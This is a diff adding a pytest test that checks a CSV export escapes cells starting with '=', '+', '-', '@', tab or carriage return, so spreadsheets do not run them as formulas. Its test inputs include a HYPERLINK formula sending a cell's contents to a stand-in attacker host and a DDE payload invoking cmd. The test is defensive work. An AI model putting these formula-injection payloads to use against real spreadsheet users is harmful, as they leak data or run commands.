@@ -58,3 +58,20 @@ def test_export_filters_by_updated_since(exporter):
     )
     assert rows == []
     assert exporter.get("/api/v1/export/articles.csv?updated_since=never").status_code == 400
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_escapes_text_that_a_spreadsheet_would_run_as_a_formula(exporter, start):
+    formula = f'{start}HYPERLINK("https://attacker.example/?x="&A1,"Open")'
+    make_claim(statement=formula, figure_text=f"{start}1+1", value=-5, unit="t")
+    make_article(title=f"{start}cmd|' /C calc'!A0")
+
+    claims = list(csv.DictReader(io.StringIO(body(exporter.get("/api/v1/export/claims.csv")))))
+    assert claims[0]["statement"] == "'" + formula
+    assert claims[0]["figure_text"] == f"'{start}1+1"
+    assert claims[0]["value"].startswith("-5")  # a negative number is data, left as it is
+    articles = list(csv.DictReader(io.StringIO(body(exporter.get("/api/v1/export/articles.csv")))))
+    assert articles[0]["title"] == f"'{start}cmd|' /C calc'!A0"
+    # JSON Lines is not read by spreadsheets: the text stays exactly as stored.
+    line = json.loads(body(exporter.get("/api/v1/export/claims.jsonl")).splitlines()[0])
+    assert line["statement"] == formula
